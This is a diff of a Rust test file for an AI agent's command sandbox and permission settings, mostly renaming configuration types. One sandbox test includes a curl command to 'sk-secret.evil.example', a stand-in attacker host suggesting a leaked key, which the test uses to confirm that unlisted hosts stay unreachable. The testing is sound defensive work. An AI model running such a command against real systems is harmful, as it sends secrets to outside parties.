@@ -3,7 +3,7 @@
 
 use crate::world;
 
-use reasonix_config::{Bash, Caches, Mode, Permissions, Sandbox};
+use reasonix_config::{BashBoxing, Fallback, Permissions, SandboxSettings, ToolchainCaches};
 use reasonix_engine::{Handle, Which};
 use reasonix_proto::{Asking, Choice, Event, Op, RecordBody, ToolOutcome, TurnState};
 use reasonix_testkit::Reply;
@@ -18,7 +18,7 @@ async fn running(commands: &[&str]) -> World {
     World::new(calls.collect()).await
 }
 
-fn begin(world: &World, permissions: Permissions, sandbox: Sandbox, attended: bool) -> Handle {
+fn begin(world: &World, permissions: Permissions, sandbox: SandboxSettings, attended: bool) -> Handle {
     world.open_with(Which::New, |start| {
         start.world.settings.permissions = permissions;
         start.world.settings.sandbox = sandbox;
@@ -77,8 +77,8 @@ fn allowed() -> Permissions {
     Permissions { allow: vec!["Bash(curl:*)".into(), "Bash(touch:*)".into()], ..Permissions::default() }
 }
 
-fn boxed() -> Sandbox {
-    Sandbox { caches: Caches::Session, ..Sandbox::default() }
+fn boxed() -> SandboxSettings {
+    SandboxSettings { caches: ToolchainCaches::Session, ..SandboxSettings::default() }
 }
 
 fn get(port: u16) -> String {
@@ -152,7 +152,7 @@ async fn c4_without_a_person_only_what_is_allowed_is_reached() {
     let other = "curl -sS http://sk-secret.evil.example/";
     let host = format!("127.0.0.1:{port}");
     let world = running(&[&line, other]).await;
-    let sandbox = Sandbox { allow_hosts: vec![host.clone()], ..boxed() };
+    let sandbox = SandboxSettings { allow_hosts: vec![host.clone()], ..boxed() };
     let mut handle = begin(&world, allowed(), sandbox.clone(), false);
     let (asked, said) = turn(&mut handle, |_| Choice::AllowOnce).await;
     assert_eq!((asked.len(), said.as_str()), (0, "hello\n"));
@@ -210,7 +210,7 @@ async fn a_command_that_the_box_was_in_the_way_of_may_run_outside_once() {
 async fn without_a_person_code_for_an_interpreter_needs_a_full_box() {
     let line = "python3 -c 'print(40 + 2)'";
     let world = running(&[line]).await;
-    let open = Sandbox { bash: Bash::Off, ..boxed() };
+    let open = SandboxSettings { bash: BashBoxing::Off, ..boxed() };
     let mut handle = begin(&world, Permissions::default(), open, false);
     let (_, said) = turn(&mut handle, |_| Choice::AllowOnce).await;
     assert!(said.contains("only at sandbox level full"), "{said}");
@@ -270,7 +270,7 @@ async fn pip_install_through_the_proxy() {
          --index-url http://{host}/simple --trusted-host 127.0.0.1 greet 2>&1 && v/bin/python -c 'import greet; print(greet.word)'"
     );
     let world = running(&[&line]).await;
-    let sandbox = Sandbox { allow_hosts: vec![host], ..boxed() };
+    let sandbox = SandboxSettings { allow_hosts: vec![host], ..boxed() };
     let mut handle = begin(&world, Permissions::default(), sandbox, false);
     let (_, said) = turn(&mut handle, |_| Choice::AllowOnce).await;
     server.kill().unwrap();
@@ -316,7 +316,7 @@ async fn c2_what_is_left_for_git_is_set_aside_without_undo_or_session_in_each_fo
     ] {
         let world = running(&[&line]).await;
         let mut handle = world.open_with(which, |start| {
-            start.world.settings.permissions = Permissions { mode: Mode::Allow, ..Permissions::default() };
+            start.world.settings.permissions = Permissions { mode: Fallback::Allow, ..Permissions::default() };
             start.world.settings.sandbox = boxed();
             start.world.settings.undo.enabled = false;
             start.attended = false;
@@ -352,8 +352,8 @@ async fn without_a_box_git_reads_unasked_only_where_the_repository_names_no_prog
         let script = format!("git init -q . 2>/dev/null && {has}");
         let out = std::process::Command::new("bash").args(["-c", &script]).current_dir(world.work.path()).output();
         assert!(out.unwrap().status.success(), "{has}");
-        let denied = Permissions { mode: Mode::Deny, ..Permissions::default() };
-        let open = Sandbox { bash: Bash::Off, ..Sandbox::default() };
+        let denied = Permissions { mode: Fallback::Deny, ..Permissions::default() };
+        let open = SandboxSettings { bash: BashBoxing::Off, ..SandboxSettings::default() };
         let mut handle = begin(&world, denied, open, false);
         let (_, said) = turn(&mut handle, |_| Choice::Deny).await;
         assert_eq!(!said.contains("Denied"), runs, "{has}: {said}");
@@ -370,7 +370,7 @@ async fn reaching(lines: &[&str]) -> World {
 }
 
 fn everything() -> Permissions {
-    Permissions { mode: reasonix_config::Mode::Allow, allow: vec!["Bash".into()], ..Permissions::default() }
+    Permissions { mode: reasonix_config::Fallback::Allow, allow: vec!["Bash".into()], ..Permissions::default() }
 }
 
 /// The note for people that a turn ended with.
@@ -430,7 +430,7 @@ async fn without_a_person_only_ports_that_are_set_are_reached() {
     let (open, closed) = (server(), server());
     let (first, second) = (format!("bash reach.sh {open}"), format!("bash reach.sh {closed}"));
     let world = reaching(&[&first, &second]).await;
-    let sandbox = Sandbox { loopback: vec![open], ..boxed() };
+    let sandbox = SandboxSettings { loopback: vec![open], ..boxed() };
     let mut handle = begin(&world, everything(), sandbox.clone(), false);
     let (_, none, said) = notes(&mut handle, Choice::Deny).await;
     assert_eq!((none.len(), said.as_str()), (0, "hello\n"));
